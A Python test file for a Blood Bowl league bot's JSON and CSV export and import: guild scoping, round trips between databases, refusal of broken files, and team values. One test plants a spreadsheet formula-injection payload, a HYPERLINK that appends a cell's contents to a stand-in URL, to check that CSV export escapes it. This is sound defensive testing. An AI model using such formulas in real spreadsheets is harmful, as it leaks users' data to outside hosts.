"""Export of a guild's league: JSON-able, scoped, CSV per table, and a round trip through import."""

import csv
import io
import json

import pytest

from league.audit import AuditRepository
from league.casualties import CasualtyRepository
from league.export import LIST_COLUMNS, TABLES, export_csv, export_guild, import_guild
from league.players import PlayerRepository
from league.rolls import RollRepository
from league.teams import TeamRepository
from records.models import CasualtyReport, ConflictError
from rules.dice import Dice
from rules.model import Result, Step
from tests.league.leaguedata import G1, G2, USER, build_league
from tests.said import refused

G3 = 3


@pytest.fixture
async def lg(db):
    league = await build_league(db)
    dice = Dice.manual([9])
    result = Result(Step("casualty", "casualty.seriously_hurt", dice=(dice.roll(16),), total=9), ruleset="ligue")
    roll_id = await RollRepository(db).record(
        guild_id=G1, channel_id=11, user_id=USER, command="blessure", options={"pb": 0}, result=result
    )
    await CasualtyRepository(db).record_casualty(
        G1,
        USER,
        CasualtyReport(
            victim_id=league.pid("gimli"),
            caused_by_id=league.pid("zog"),
            outcome="casualty.seriously_hurt",
            cause="block",
            match_id=league.matches["m2"].id,
            roll_id=roll_id,
        ),
    )
    await TeamRepository(db).update(G1, USER, league.tid("humans"), apothecary=True)
    return league


def normalise(data: dict) -> dict:
    """Ids replaced by their rank in each table, so two exports from different files compare."""
    rank = {t: {row["id"]: i for i, row in enumerate(data[t])} for t in (*TABLES, "rolls")}
    refs = {
        "team_id": "teams",
        "home_team_id": "teams",
        "away_team_id": "teams",
        "victim_team_id": "teams",
        "caused_by_team_id": "teams",
        "victim_id": "players",
        "caused_by_id": "players",
        "match_id": "matches",
        "roll_id": "rolls",
    }
    out = {}
    for table in (*TABLES, "rolls"):
        rows = []
        for row in data[table]:
            row = dict(row, id=rank[table][row["id"]])
            for column, target in refs.items():
                if row.get(column) is not None:
                    row[column] = rank[target][row[column]]
            rows.append(row)
        out[table] = rows
    return out


async def test_export_is_json_able_and_scoped(db, lg):
    data = await export_guild(db, G1)
    assert json.loads(json.dumps(data)) == data
    assert (data["format"], data["version"], data["guild_id"]) == ("arbitre-league", 1, G1)
    assert [t["name"] for t in data["teams"]] == ["Orques de Fer", "Élus de Nuffle", "Nains Têtus"]
    assert len(data["players"]) == 9 and len(data["matches"]) == 2 and len(data["casualties"]) == 9
    assert len(data["rolls"]) == 1 and data["rolls"][0]["command"] == "blessure"
    assert all("guild_id" not in row and "name_key" not in row for t in TABLES for row in data[t])
    grak = next(p for p in data["players"] if p["name"] == "Grak")
    assert grak["keywords"] == ["Orc", "Blitzer"] and grak["ag"] == 3
    other = await export_guild(db, G2)
    assert [t["name"] for t in other["teams"]] == ["Orques de Fer", "Les Autres"]
    assert {p["id"] for p in other["players"]}.isdisjoint(p["id"] for p in data["players"])


async def test_round_trip_through_another_database(db, lg, store):
    await db.execute("UPDATE players SET advancements = 2 WHERE guild_id = ? AND number = 7", (G1,))
    data = json.loads(json.dumps(await export_guild(db, G1)))
    assert any(p["advancements"] == 2 for p in data["players"])
    target = await store.open("other")
    try:
        for name in ("Occupe", "les ids"):
            await TeamRepository(target).create(G1, USER, name=name, coach_id=1, roster="Orques")
        counts = await import_guild(target, G3, 777, data)
        assert counts == {"teams": 3, "players": 9, "matches": 2, "casualties": 9, "rolls": 1}
        again = await export_guild(target, G3)
        assert normalise(again) == normalise(data)
        assert [t["id"] for t in again["teams"]] != [t["id"] for t in data["teams"]]
        [batch] = await AuditRepository(target).batches(G3)
        assert batch.label == "league.import" and batch.user_id == 777
        stored_roll = await RollRepository(target).get(G3, again["rolls"][0]["id"])
        assert stored_roll.options == {"pb": 0}
    finally:
        await target.close()


async def test_an_export_older_than_the_spp_decision_is_imported_with_it_decided_by_cause(db, lg, store):
    """An export written before migration 0013 has no ``earns_spp``: each applied casualty is decided by its cause
    as the migration decides (a Block's counts in the league table, a foul's not); a pending one waits."""
    await db.execute("UPDATE casualties SET applied_at = '2026-11-01' WHERE guild_id = ? AND id % 2 = 1", (G1,))
    data = json.loads(json.dumps(await export_guild(db, G1)))
    for row in data["casualties"]:
        del row["earns_spp"]
    target = await store.open("other")
    try:
        await import_guild(target, G3, 777, data)
        rows = await target.fetchall("SELECT cause, applied_at, earns_spp FROM casualties WHERE guild_id = ?", (G3,))
        decided = {(r["cause"], r["applied_at"] is not None, r["earns_spp"]) for r in rows}
        assert {("block", True, 1), ("block", False, None)} <= decided
        for cause, applied, earns in decided:
            assert earns == (int(cause in ("block", "arm_bar")) if applied else None)
        assert any(cause != "block" and applied for cause, applied, _ in decided)
    finally:
        await target.close()


async def test_import_needs_an_empty_guild(db, lg):
    data = await export_guild(db, G1)
    with refused("déjà des équipes", error=ConflictError):
        await import_guild(db, G2, USER, data)


async def test_import_refuses_foreign_or_broken_files(db, lg):
    data = await export_guild(db, G1)
    with refused("format"):
        await import_guild(db, G3, USER, {**data, "format": "other"})
    with refused("« matches » manque"):
        await import_guild(db, G3, USER, {k: v for k, v in data.items() if k != "matches"})
    broken = json.loads(json.dumps(data))
    broken["players"][-1]["team_id"] = 424242
    with refused("teams n° 424242"):
        await import_guild(db, G3, USER, broken)
    invalid = json.loads(json.dumps(data))
    invalid["teams"][0]["treasury"] = 1234
    with refused("multiple de 5\u202f000"):
        await import_guild(db, G3, USER, invalid)
    assert (await export_guild(db, G3))["teams"] == []
    assert await AuditRepository(db).batches(G3) == []


async def test_csv_per_table(db, lg):
    files = await export_csv(db, G1)
    assert sorted(files) == ["casualties.csv", "matches.csv", "players.csv", "standings.csv", "teams.csv"]
    data = await export_guild(db, G1)
    for table in TABLES:
        rows = list(csv.DictReader(io.StringIO(files[f"{table}.csv"]), delimiter=";"))
        assert len(rows) == len(data[table])
        for got, want in zip(rows, data[table], strict=True):
            expected = {k: "|".join(v) if k in LIST_COLUMNS else "" if v is None else str(v) for k, v in want.items()}
            assert got == expected
    players = list(csv.DictReader(io.StringIO(files["players.csv"]), delimiter=";"))
    assert next(p for p in players if p["name"] == "Grak")["keywords"] == "Orc|Blitzer"


async def test_the_export_holds_the_coaches_names_and_the_standings_with_their_settings(db, lg):
    orcs = lg.teams["orcs"]
    data = await export_guild(db, G1, {orcs.coach_id: "Gorbad"})
    names = {team["name"]: team["coach_name"] for team in data["teams"]}
    assert names[orcs.name] == "Gorbad" and None in names.values()  # a coach not given: no name, the id alone
    settings = data["standings"]["settings"]
    assert settings["tiebreakers"] == ["td_diff", "cas_diff", "head_to_head"] and settings["win"] == 3
    (season,) = data["standings"]["seasons"]
    assert season["season"] == 1 and season["current"] is True
    assert {row["name"] for row in season["rows"]} >= {orcs.name}
    files = await export_csv(db, G1, coaches={orcs.coach_id: "Gorbad"})
    table = list(csv.DictReader(io.StringIO(files["standings.csv"]), delimiter=";"))
    assert [row["name"] for row in table] == [row["name"] for row in season["rows"]]
    assert [row["points"] for row in table] == [str(row["points"]) for row in season["rows"]]
    teams = list(csv.DictReader(io.StringIO(files["teams.csv"]), delimiter=";"))
    assert next(team for team in teams if team["name"] == orcs.name)["coach_name"] == "Gorbad"


async def test_csv_cells_typed_by_users_never_become_spreadsheet_formulas(db, lg):
    """A coach's « =HYPERLINK(...) » must reach the commissioner's spreadsheet as text, not as a formula."""
    formula = '=HYPERLINK("http://example.invalid/?"&A1;"Cliquez")'
    await TeamRepository(db).update(G1, USER, lg.tid("orcs"), name=formula, roster="+Orques")
    await lg.player_repo.update(G1, USER, lg.pid("zog"), name="@SOMME(1;1)", skills=("-2+3", "Blocage"))
    files = await export_csv(db, G1)
    cells = [cell for name in files for row in csv.reader(io.StringIO(files[name]), delimiter=";") for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    teams = list(csv.DictReader(io.StringIO(files["teams.csv"]), delimiter=";"))
    assert "'" + formula in {t["name"] for t in teams} and "'+Orques" in {t["roster"] for t in teams}
    players = list(csv.DictReader(io.StringIO(files["players.csv"]), delimiter=";"))
    assert next(p for p in players if p["name"] == "'@SOMME(1;1)")["skills"] == "'-2+3|block"  # by key
    data = await export_guild(db, G1)  # the JSON keeps what was typed
    assert formula in {t["name"] for t in data["teams"]}


async def test_empty_guild_exports_headers_only(db):
    files = await export_csv(db, 99)
    assert files["teams.csv"].startswith("id;name;coach_id;roster;treasury")
    assert files["teams.csv"].count("\n") == 1
    data = await export_guild(db, 99)
    assert all(data[t] == [] for t in TABLES)


async def test_teams_carry_their_value_in_both_exports(db, lg):
    grak = lg.players["grak"]
    await PlayerRepository(db).update(G1, USER, grak.id, value=80_000)
    await TeamRepository(db).update(G1, USER, lg.tid("orcs"), rerolls=1, reroll_cost=60_000)
    data = await export_guild(db, G1)
    orcs = next(t for t in data["teams"] if t["name"] == "Orques de Fer")
    # Grak 80,000 + 1 re-roll at 60,000; Ugluk and Zog have no value yet: a lower bound.
    assert (orcs["team_value"], orcs["current_team_value"], orcs["team_value_complete"]) == (140_000, 140_000, False)
    teams = list(csv.DictReader(io.StringIO((await export_csv(db, G1))["teams.csv"]), delimiter=";"))
    assert next(t for t in teams if t["name"] == "Orques de Fer")["team_value"] == "140000"
